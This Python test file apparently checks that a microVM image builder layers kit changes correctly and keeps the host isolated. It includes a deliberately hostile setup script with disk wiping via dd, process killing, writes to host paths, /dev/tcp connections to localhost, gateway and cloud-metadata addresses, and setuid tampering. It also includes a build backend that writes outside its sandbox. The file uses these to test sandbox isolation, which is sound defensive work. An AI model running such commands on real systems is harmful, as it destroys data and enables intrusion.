"""Set-up of kits in machines: its changes become a layer, failures are named, the host is out of reach.

The kits stand on `base`, whose root file system is in the user's own cache.
"""

from __future__ import annotations

import contextlib
import gzip
import http.server
import os
import signal
import socket
import subprocess
import threading

import pytest

from pytest_microvm.errors import BuildError, ImageError
from pytest_microvm.host.host import Host
from pytest_microvm.images.store import cache_root
from pytest_microvm.settings.spec import MachineSpec
from support import guards
from support.commands import MICROVM
from support.oci import LayoutBuilder, archive, busybox_layer, member
from support.wheels import wheel

CHANGES = r"""
parent = "base"
setup = [
  "echo $GREETING > /etc/greeting; umask; pwd; hostname > /etc/seen",
  '''
  rm -r /etc/cron.daily /etc/skel; mkdir /etc/skel; echo new > /etc/skel/only
  mv /etc/dpkg /etc/renamed
  mkdir -p /srv/kinds; cd /srv/kinds
  echo one > first; ln first second; ln -s /etc/greeting link; mkfifo fifo; mknod device b 8 0
  chown 1000:50 first; chmod 4711 first
  ''',
  "echo list > /var/lib/apt/lists/list; echo log > /var/log/made.log; echo x > /tmp/x; mkdir /root/.cache",
  '/usr/local/bin/tool >> /etc/greeting',
]
[files]
"/usr/local/bin/tool" = "tool"
[environment]
GREETING = "it's morning"
"""


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """Return a function that writes a kit and returns its name."""
    folder = tmp_path_factory.mktemp("project")

    def write(name, text, **files):
        kit = folder / "microvm" / "kits" / name
        kit.mkdir(parents=True)
        for file, content in files.items():
            (kit / file).write_text(content)
            (kit / file).chmod(0o755)
        (kit / "kit.toml").write_text(text)
        return name

    write.folder = folder
    return write


@pytest.fixture(scope="module")
def host(project):
    said = []
    with contextlib.closing(Host(project=project.folder, say=said.append)) as found:
        found.said = said
        yield found
        for entry in found.images.list():
            if entry.kit.is_relative_to(project.folder) or str(project.folder) in entry.reference:
                with contextlib.suppress(ImageError):  # removed with another name of it
                    found.images.remove(entry.image.digest)


def build(host, project, name):
    return host.images.get(name, project=project.folder, progress=host.say)


@pytest.fixture(scope="module")
def changed(host, project):
    return build(host, project, project("changed", CHANGES, tool="#!/bin/sh\necho tool\n"))


def test_changes_are_a_layer_on_the_parents_root(host, project, changed):
    base = build(host, project, "base")
    assert (changed.rootfs, len(changed.layers)) == (base.rootfs, 1)
    script = """
    cat /etc/greeting /etc/seen /etc/skel/* /srv/kinds/link
    ls -d /etc/cron.daily /etc/dpkg /var/lib/apt/lists/list /var/log/made.log /tmp/x /root/.cache 2>/dev/null
    ls /etc/renamed
    stat -c '%F %a %u:%g %h %n' /srv/kinds/* /usr/local/bin/tool
    stat -c '%Y' /srv/kinds/first /etc/greeting
    """
    with host.start(MachineSpec(image="changed")) as machine:
        assert machine.run(script).stdout.splitlines() == [
            "it's morning", "tool", "microvm", "new", "it's morning", "tool",
            "dpkg.cfg", "dpkg.cfg.d", "origins",
            "block special file 644 0:0 1 /srv/kinds/device",
            "fifo 644 0:0 1 /srv/kinds/fifo",
            "regular file 4711 1000:50 2 /srv/kinds/first",
            "symbolic link 777 0:0 1 /srv/kinds/link",
            "regular file 4711 1000:50 2 /srv/kinds/second",
            "regular file 755 0:0 1 /usr/local/bin/tool",
            "1735689600", "1735689600",
        ]  # fmt: skip
        assert (
            machine.run(["cat", "/etc/machine-id"]).stdout.strip()
            == machine.instance.resumed_with["machine_id"]
        )


def test_same_set_up_gives_the_same_layer(host, project, changed):
    again = build(host, project, project("again", CHANGES, tool="#!/bin/sh\necho tool\n"))
    assert again.layers == changed.layers
    host.said.clear()
    assert build(host, project, "again") == again
    assert host.said == []


FAILING = r"""
parent = "base"
setup = ["true", "printf 'bad \\033[2J\\nout'; echo error >&2; getent hosts a.example || exit 3"]
"""


def test_failing_command_is_named_with_its_output(project):
    """As the command line prints it: safe, with the denied requests, and nothing is left."""
    project("failing", FAILING)
    command = [*MICROVM, "image", "build", "failing"]
    done = subprocess.run(
        command, cwd=project.folder, capture_output=True, text=True, timeout=guards.MACHINE, check=False
    )
    assert done.returncode == 1, done.stderr
    assert "kit failing: setup[1] failed (exit code 3): printf 'bad" in done.stderr
    assert "error\n" in done.stderr
    assert "\033" not in done.stderr
    assert "DNS a.example" in done.stderr
    assert "`setup_network`" in done.stderr
    assert list((cache_root() / "images" / "building").glob("setup-failing*")) == []


HOSTILE = """
parent = "base"
setup = ['''
touch {marker}/touched || mkdir -p {marker} && touch {marker}/touched
for path in /mnt/* /proc/1/root/mnt/* /host {marker}; do echo evil > "$path/evil" || true; done
for disk in /dev/vd?; do mkdir -p /x$disk; mount $disk /x$disk && touch /x$disk/evil || true; done
dd if=/dev/zero of=/dev/vda bs=4k count=1 || true
kill -9 {pid} || true
for port in {port} 22; do for address in 127.0.0.1 10.0.2.2 169.254.169.254 192.0.0.8; do
  timeout 5 bash -c "echo evil > /dev/tcp/$address/$port" || true
done; done
mknod /root/disk b 8 0; mknod /root/memory c 1 1; ln -s {marker}/secret /etc/stolen; chmod 6777 /bin/true
echo 1 > /proc/sys/kernel/sysrq; kill -9 -1
exit 7
''']
"""


def test_hostile_set_up_changes_nothing_on_the_host(host, project, tmp_path):
    """It writes to the host's paths and disks, connects, and kills: its own machine alone has the damage."""
    marker, victim = tmp_path / "marker", subprocess.Popen(["sleep", "600"])
    marker.mkdir()
    (marker / "secret").write_text("secret")
    with socket.create_server(("127.0.0.1", 0)) as server, victim:
        came = []

        def accept():
            with contextlib.suppress(OSError):
                while True:
                    came.append(server.accept())

        threading.Thread(target=accept, daemon=True).start()
        text = HOSTILE.format(marker=marker, pid=victim.pid, port=server.getsockname()[1])
        base = build(host, project, "base")
        ended = r"setup\[0\] failed \(exit code 7\)|the machine of its set-up failed"
        with pytest.raises(BuildError, match=f"kit hostile: ({ended})"):
            build(host, project, project("hostile", text))
        assert victim.poll() is None
        victim.send_signal(signal.SIGKILL)
    assert came == []
    assert [path.name for path in marker.iterdir()] == ["secret"]
    assert host.images.intact(base)


def test_set_up_that_crashes_its_machine(host, project):
    crash = 'parent = "base"\nsetup = ["echo c > /proc/sysrq-trigger; sleep 60"]\n'
    with pytest.raises(BuildError, match="kit crash: the machine of its set-up failed") as caught:
        build(host, project, project("crash", crash))
    assert "resources" in caught.value.resolution


# Sdists


BACKEND = """
import os, pathlib, platform, zipfile

pathlib.Path({marker!r}).mkdir(parents=True, exist_ok=True)
pathlib.Path({marker!r}, "backend").write_text("evil")

def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = "thing-1.0-py3-none-any.whl"
    about = "thing-1.0.dist-info"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("thing.py", f"built_on = {{platform.node()!r}}")
        wheel.writestr(f"{{about}}/METADATA", "Metadata-Version: 2.1\\nName: thing\\nVersion: 1.0\\n")
        wheel.writestr(f"{{about}}/WHEEL",
                       "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(f"{{about}}/RECORD", "")
    return name
"""
PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'


@pytest.fixture
def index(tmp_path):
    """An index on an address of this computer that machines do not take for their own."""
    files = {
        "thing-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: thing\nVersion: 1.0\n",
        "thing-1.0/pyproject.toml": PYPROJECT,
        "thing-1.0/backend.py": BACKEND.format(marker=str(tmp_path / "marker")),
    }
    pages = {
        "/simple/packaging/": b'<a href="/packaging-1.0-py3-none-any.whl">x</a>',
        "/packaging-1.0-py3-none-any.whl": wheel("packaging"),
        "/simple/thing/": b'<a href="/thing-1.0.tar.gz">x</a>',
        "/thing-1.0.tar.gz": gzip.compress(archive(member(*item) for item in files.items())),
    }

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = pages.get(self.path)
            self.send_response(404 if body is None else 200)
            self.send_header("Content-Type", "text/html" if self.path.endswith("/") else "application/gzip")
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.2", 0), Handler) as server:
        threading.Thread(target=server.serve_forever).start()
        yield f"http://127.0.0.2:{server.server_port}/simple"
        server.shutdown()


def test_sdist_is_built_in_the_machine(host, project, index, tmp_path):
    """The host runs nothing of it; the machine has no network but the index of this computer's pip."""
    text = 'parent = "python"\nsdists = ["thing==1.0"]\nsetup = ["python3 -c \'import thing\'"]\n'
    name = project("sdist", text)
    variables = {name: value for name, value in os.environ.items() if not name.startswith("PIP_")}
    (tmp_path / "pip.conf").write_text(f"[global]\nindex-url = {index}\n")
    done = subprocess.run(
        [*MICROVM, "image", "build", name], cwd=project.folder, capture_output=True, text=True,
        timeout=guards.MACHINE, check=False, env={**variables, "PIP_CONFIG_FILE": str(tmp_path / "pip.conf")},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "setting up (1 of 2): python3 -m pip install" in done.stderr
    assert not (tmp_path / "marker").exists()
    (layer,) = build(host, project, name).layers
    built = ["unsquashfs", "-cat", layer, "usr/local/lib/python3*/dist-packages/thing.py"]
    assert subprocess.run(built, capture_output=True, text=True, check=True).stdout == "built_on = 'microvm'"


# Container images


@pytest.fixture(scope="module")
def layout(project):
    builder = LayoutBuilder(project.folder / "image")
    layer = busybox_layer("sh", "cat", "rm", "ls", "mkdir", "echo", more=[member("etc/old", "old")])
    config = {"Env": ["GREETING=hello", "KEPT=yes"], "Entrypoint": ["/bin/cat"], "User": "1000"}
    builder.publish(builder.image(layer, config=config), "1")
    return builder


def test_kit_on_a_container_image(host, project, layout):
    """What the image says remains, except where the kit says something else."""
    project("plain", 'from = "oci:../../../image:1"\nenvironment = {GREETING = "hi"}\n')
    text = (
        'parent = "plain"\nsetup = ["rm /etc/old", "echo $GREETING > /etc/new"]\nfiles = {"/srv/f" = "f"}\n'
    )
    project("changed-image", text, f="file\n")
    plain, changed = (build(host, project, name) for name in ("plain", "changed-image"))
    pulled = host.images.get(f"oci:{layout.path}:1")
    assert (plain.rootfs, plain.layers) == (pulled.rootfs, ())
    assert (changed.rootfs, len(changed.layers), changed.start) == (pulled.rootfs, 1, pulled.start)
    assert dict(changed.environment)["KEPT"] == "yes"
    command = [*MICROVM, "run", "--quiet", "--image", "changed-image", "--", "/etc/new", "/srv/f", "/etc/old"]
    done = subprocess.run(
        command, cwd=project.folder, capture_output=True, text=True, timeout=guards.MACHINE, check=False
    )
    assert (done.returncode, done.stdout) == (1, "hi\nfile\n")
    assert "/etc/old" in done.stderr


def test_tag_that_moved_is_followed_by_force_alone(host, project, layout):
    name = project("moving", 'from = "oci:../../../image:2"\n')
    layers = [busybox_layer("sh", "cat", more=[member("etc/version", number)]) for number in "12"]
    layout.publish(layout.image(layers[0]), "2")
    first = build(host, project, name)
    layout.entries.pop()
    layout.publish(layout.image(layers[1]), "2")
    assert build(host, project, name) == first
    moved = host.images.get(name, project=project.folder, force=True)
    assert moved.rootfs != first.rootfs
    assert build(host, project, name) == moved
